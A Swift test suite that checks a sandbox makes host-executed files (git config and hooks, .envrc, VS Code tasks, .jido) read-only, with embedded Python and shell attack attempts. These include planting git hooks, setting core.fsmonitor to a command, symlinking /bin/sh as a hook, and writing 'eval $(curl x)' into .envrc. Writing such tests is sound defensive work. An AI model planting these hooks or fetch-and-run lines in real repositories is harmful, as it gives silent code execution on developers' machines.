#if canImport(Glibc)
import Glibc
#endif
import Sandbox
import TestSupport
import Testing

/// Finding 4 of issue 10, the mount side: what the host later runs (`.git/config`, `.git/hooks/`,
/// `.jido/`, `.envrc`…) is read-only inside a writable workspace. Writes, creations, renames
/// over, links and unlinks are refused by the kernel, missing paths cannot be created, and the
/// host's files are unchanged afterwards.
@Suite(.enabled(if: HostSupport.canSandbox, "\(HostSupport.reason)"), .serialized)
struct ProtectedPathTests {
    /// Python that tries each attack and prints `name errno` (0: it worked).
    static let attacks = AttemptScript.prelude + """
        import os
        def write(path, text="pwned\\n", mode="w"):
            with open(path, mode) as f: f.write(text)
        open("other", "w").close(); os.mkdir("otherdir")
        attempt("append-config", lambda: write(".git/config", "[core]\\n\\tfsmonitor = /bin/id\\n", "a"))
        attempt("truncate-config", lambda: os.truncate(".git/config", 0))
        attempt("hook", lambda: write(".git/hooks/pre-commit"))
        attempt("info-attributes", lambda: write(".git/info/attributes"))
        attempt("jido-command", lambda: write(".jido/commands/x.md"))
        attempt("jido-mkdir", lambda: os.mkdir(".jido/skills"))
        attempt("rename-over-config", lambda: os.rename("other", ".git/config"))
        attempt("rename-over-hooks", lambda: os.rename("otherdir", ".git/hooks"))
        attempt("rename-config-away", lambda: os.rename(".git/config", "stolen"))
        attempt("symlink-hook", lambda: os.symlink("/bin/sh", ".git/hooks/post-checkout"))
        attempt("hardlink-hook", lambda: os.link("other", ".git/hooks/pre-push"))
        attempt("unlink-config", lambda: os.unlink(".git/config"))
        attempt("rmdir-hooks", lambda: os.rmdir(".git/hooks"))
        attempt("envrc", lambda: write(".envrc"))
        attempt("vscode-tasks", lambda: write(".vscode/tasks.json"))
        attempt("chmod-config", lambda: os.chmod(".git/config", 0o777))
        attempt("ordinary-write", lambda: write("src.txt"))
        """

    static func answers(_ r: SandboxResult) -> [String: Int32] { AttemptScript.answers(r.out) }

    @Test func writesCreationsRenamesLinksAndUnlinksOfProtectedPathsAreRefused() throws {
        let h = try SandboxHarness()
        let p = h.project
        precondition(mkdir(p.file(".git"), 0o755) == 0 && mkdir(p.file(".git/hooks"), 0o755) == 0)
        precondition(mkdir(p.file(".jido"), 0o755) == 0 && mkdir(p.file(".jido/commands"), 0o755) == 0)
        p.write(".git/config", "[core]\n\trepositoryformatversion = 0\n")
        p.write(".envrc", "export A=1\n")
        precondition(mkdir(p.file(".vscode"), 0o755) == 0)
        let r = try h.run(["/usr/bin/python3", "-c", Self.attacks])
        #expect(r.exitCode == 0, "\(r.err)")
        let a = Self.answers(r)
        #expect(a["ordinary-write"] == 0, "the workspace itself must stay writable: \(r.out)")
        for name in [
            "append-config", "truncate-config", "hook", "jido-command", "jido-mkdir", "symlink-hook",
            "hardlink-hook", "envrc", "vscode-tasks", "chmod-config",
        ] {
            #expect(a[name] == EROFS, "\(name): \(a[name].map(String.init) ?? "no answer") (\(r.out))")
        }
        // `.git/` is read-only whole: `.git/info` cannot be made, so a file in it is not there.
        #expect(a["info-attributes"] == ENOENT || a["info-attributes"] == EROFS, "\(r.out)")
        // A mount point cannot be renamed over, away or removed; a rename into or out of the
        // protected `.git/` crosses its mount (EXDEV).
        for name in ["rename-over-config", "rename-over-hooks", "rename-config-away", "unlink-config", "rmdir-hooks"] {
            let code = a[name] ?? 0
            #expect(code == EBUSY || code == EROFS || code == EXDEV, "\(name): \(code) (\(r.out))")
        }
        // The host's files afterwards.
        #expect(p.read(".git/config") == "[core]\n\trepositoryformatversion = 0\n")
        #expect(p.read(".envrc") == "export A=1\n")
        for planted in [
            ".git/hooks/pre-commit", ".git/hooks/post-checkout", ".git/hooks/pre-push", ".jido/commands/x.md",
            ".jido/skills", "stolen", ".git/info/attributes", ".vscode/tasks.json",
        ] {
            #expect(access(p.file(planted), F_OK) != 0, "\(planted) appeared on the host")
        }
        var st = stat()
        #expect(stat(p.file(".git/config"), &st) == 0 && st.st_mode & 0o777 == 0o644)
        #expect(p.read("src.txt") == "pwned\n")
    }

    @Test func missingProtectedPathsInsideExistingEntriesCannotBeCreated() throws {
        // A repository without hooks or info, a .jido without commands, an empty .vscode.
        let h = try SandboxHarness()
        let p = h.project
        precondition(mkdir(p.file(".git"), 0o755) == 0 && mkdir(p.file(".jido"), 0o755) == 0)
        p.write(".git/config", "")
        let r = try h.run([
            "/usr/bin/python3", "-c",
            AttemptScript.prelude + """
            import os
            attempt("mkdir-hooks", lambda: os.makedirs(".git/hooks/x"))
            attempt("hook", lambda: open(".git/hooks/pre-commit", "w").write("id"))
            attempt("info", lambda: open(".git/info/attributes", "w").write("* filter=x"))
            attempt("jido-commands", lambda: os.makedirs(".jido/commands"))
            attempt("jido-command", lambda: open(".jido/x.md", "w").write("x"))
            """,
        ])
        let a = Self.answers(r)
        for name in ["mkdir-hooks", "jido-commands", "jido-command"] {
            #expect(a[name] == EROFS, "\(name): \(a[name].map(String.init) ?? "no answer") (\(r.out) \(r.err))")
        }
        // `.git/` is read-only whole, so its missing entries need no placeholder: a file in one is
        // simply not there, and the repository keeps no trace of the sandbox.
        for name in ["hook", "info"] {
            #expect(a[name] == ENOENT, "\(name): \(a[name].map(String.init) ?? "no answer") (\(r.out) \(r.err))")
        }
        #expect(access(p.file(".git/hooks"), F_OK) != 0 && access(p.file(".git/info"), F_OK) != 0)
        #expect(access(p.file(".jido/commands"), F_OK) != 0 && access(p.file(".jido/x.md"), F_OK) != 0)
        // A project without those entries keeps no placeholder at its top level once the sandbox is gone.
        let bare = try SandboxHarness()
        let b = try bare.sh("test -d .git && test -f .envrc")
        #expect(b.exitCode == 0, "the sandbox should see placeholders: \(b.err)")
        Sandbox.finishDetachedTeardown()  // they go with the sandbox's helper
        #expect(directoryEntries(bare.project.path).isEmpty, "placeholders left at the top level: \(directoryEntries(bare.project.path))")
    }

    /// Every way to make a name, tried on protected entries of the root that do not exist.
    static let creations = AttemptScript.prelude + """
        import os
        def write(path, text="pwned\\n", mode="w"):
            with open(path, mode) as f: f.write(text)
        open("other", "w").close(); os.mkdir("otherdir"); open("otherdir/config", "w").close()
        attempt("creat-envrc", lambda: os.close(os.open(".envrc", os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)))
        attempt("write-envrc", lambda: write(".envrc"))
        attempt("append-envrc", lambda: write(".envrc", mode="a"))
        attempt("mkdir-git", lambda: os.mkdir(".git"))
        attempt("git-config", lambda: write(".git/config", "[core]\\n\\tfsmonitor = /bin/id\\n"))
        attempt("makedirs-hooks", lambda: os.makedirs(".git/hooks"))
        attempt("rename-envrc", lambda: os.rename("other", ".envrc"))
        attempt("rename-gitdir", lambda: os.rename("otherdir", ".git"))
        attempt("symlink-envrc", lambda: os.symlink("/bin/sh", ".envrc"))
        attempt("symlink-git", lambda: os.symlink("otherdir", ".git"))
        attempt("link-envrc", lambda: os.link("other", ".envrc"))
        attempt("link-gitmodules", lambda: os.link("other", ".gitmodules"))
        attempt("mknod-gitmodules", lambda: os.mknod(".gitmodules", 0o100644))
        attempt("unlink-envrc", lambda: os.unlink(".envrc"))
        attempt("rmdir-git", lambda: os.rmdir(".git"))
        attempt("rename-git-away", lambda: os.rename(".git", "moved"))
        attempt("vscode-tasks", lambda: write(".vscode/tasks.json"))
        attempt("jido-command", lambda: os.makedirs(".jido/commands"))
        attempt("ordinary-write", lambda: write("new.txt"))
        """

    @Test func missingProtectedEntriesOfTheRootCannotBeCreatedAndLeaveNoTrace() throws {
        // A project that is no repository and has no .envrc, .jido, .vscode, …
        let h = try SandboxHarness()
        let p = h.project
        p.write("src.txt", "x\n")
        let r = try h.run(["/usr/bin/python3", "-c", Self.creations])
        #expect(r.exitCode == 0, "\(r.err)")
        let a = Self.answers(r)
        #expect(a["ordinary-write"] == 0, "the workspace itself must stay writable: \(r.out)")
        let attacks = [
            "creat-envrc", "write-envrc", "append-envrc", "mkdir-git", "git-config", "makedirs-hooks", "rename-envrc",
            "rename-gitdir", "symlink-envrc", "symlink-git", "link-envrc", "link-gitmodules", "mknod-gitmodules",
            "unlink-envrc", "rmdir-git", "rename-git-away", "vscode-tasks", "jido-command",
        ]
        for name in attacks {
            // EEXIST for a new name where the placeholder is, EROFS inside or onto it, EBUSY for
            // renaming or removing the mount point.
            let code = a[name] ?? 0
            #expect([EEXIST, EROFS, EBUSY].contains(code), "\(name): \(code) (\(r.out))")
        }
        // The shell's own redirections, in another call.
        let sh = try h.sh("echo 'eval $(curl x)' > .envrc; echo $?; mkdir -p .git/hooks; echo $?; echo id >> .gitmodules; echo $?")
        let statuses = sh.out.split(separator: "\n")
        #expect(statuses.count == 3 && !statuses.contains("0"), "shell redirections into protected names: \(sh.out) \(sh.err)")
        #expect(sh.err.split(separator: "\n").filter { $0.hasSuffix("Read-only file system") }.count == 3, "\(sh.err)")
        // On the host: what the tool legitimately wrote, and no protected name, no placeholder.
        Sandbox.finishDetachedTeardown()
        #expect(directoryEntries(p.path).sorted() == ["new.txt", "other", "otherdir", "src.txt"], "\(directoryEntries(p.path))")
        #expect(directoryEntries(p.file("otherdir")) == ["config"])
    }

    @Test func aPlaceholderOutlivesTheFirstOfTwoSandboxesAndGoesWithTheLast() throws {
        let h = try SandboxHarness()
        let p = h.project
        let filter = try SeccompProgram(profile: h.profile)
        var first: Sandbox? = try Sandbox.prepare(profile: h.profile, root: p.path, filter: { filter })
        var second: Sandbox? = try Sandbox.prepare(profile: h.profile, root: p.path, filter: { filter })
        #expect(access(p.file(".envrc"), F_OK) == 0, "no placeholder while sandboxes of the project live")
        let r1 = try first!.run(RunRequest(argv: ["/bin/sh", "-c", "echo x > .envrc"]))
        #expect(r1.exitCode != 0)
        first = nil
        Sandbox.finishDetachedTeardown()
        #expect(access(p.file(".envrc"), F_OK) == 0, "the placeholder went while another sandbox had it mounted")
        // The first sandbox went; the second still has the placeholder mounted and refuses.
        let r2 = try second!.run(RunRequest(argv: ["/bin/sh", "-c", "echo x > .envrc; mkdir .git/hooks"]))
        #expect(r2.exitCode != 0, "the second sandbox lost its placeholder: \(r2.err)")
        #expect(r2.err.contains("Read-only"), "\(r2.err)")
        second = nil
        Sandbox.finishDetachedTeardown()
        #expect(directoryEntries(p.path).isEmpty, "left behind: \(directoryEntries(p.path))")
    }

    /// Sets, or tests for (0: present), the placeholder marker on the host, as the host's root.
    static func marker(_ path: String, set: Bool = false) -> Int32 {
        let code =
            set
            ? "os.setxattr(p, 'trusted.jcs.placeholder', b'1')"
            : "sys.exit(0 if 'trusted.jcs.placeholder' in os.listxattr(p) else 1)"
        return system2(["/usr/bin/python3", "-c", "import os, sys\np = sys.argv[1]\n\(code)", path])
    }

    @Test func aPlaceholderADeadMonitorLeftIsRemovedAndAUsersEmptyFileIsNot() throws {
        let h = try SandboxHarness()
        let p = h.project
        // What a monitor killed mid-call leaves: a marked, empty placeholder. And the user's own empty file.
        precondition(mkdir(p.file(".git"), 0o755) == 0)
        precondition(Self.marker(p.file(".git"), set: true) == 0)
        p.write(".envrc", "")
        // A tool cannot forge the marker on what it leaves.
        let r = try h.run([
            "/usr/bin/python3", "-c",
            "import os\nopen('forged','w').close()\ntry:\n os.setxattr('forged','trusted.jcs.placeholder',b'1')\n print(0)\nexcept OSError as e:\n print(e.errno)",
        ])
        #expect(r.exitCode == 0 && r.out != "0\n", "\(r.out) \(r.err)")
        Sandbox.finishDetachedTeardown()
        #expect(Self.marker(p.file("forged")) != 0, "a tool set the placeholder marker")
        #expect(access(p.file(".git"), F_OK) != 0, "the dead monitor's placeholder is still there")
        #expect(access(p.file(".envrc"), F_OK) == 0 && p.read(".envrc") == "", "the user's own .envrc was removed")
        #expect(directoryEntries(p.path).sorted() == [".envrc", "forged"], "\(directoryEntries(p.path))")
    }


    @Test func aProtectedPathThatIsASymlinkIsNeverFollowed() throws {
        let host = TempDirectory(prefix: "jcs-host-target")
        host.write("config", "host\n")
        let h = try SandboxHarness()
        symlink(host.path, h.project.file(".git"))
        do {
            _ = try h.sh("echo pwned > .git/config")
            Issue.record("a symlinked protected path was mounted")
        } catch let error as SandboxError {
            #expect(error.code == "protected_path_unsafe", "\(error)")
            #expect(error.description.contains(".git"), "\(error)")
        }
        #expect(host.read("config") == "host\n")
        #expect(access(host.file("hooks"), F_OK) != 0, "a placeholder was created through the link")
    }

    @Test func aProjectCanLiftAnEntry() throws {
        let h = try SandboxHarness { $0.filesystem.protectedPaths.removeAll { $0 == ".envrc" } }
        h.project.write(".envrc", "")
        let r = try h.sh("echo 'export A=1' > .envrc && cat .envrc")
        #expect(r.exitCode == 0 && r.out == "export A=1\n", "\(r.err)")
        #expect(h.project.read(".envrc") == "export A=1\n")
    }
}
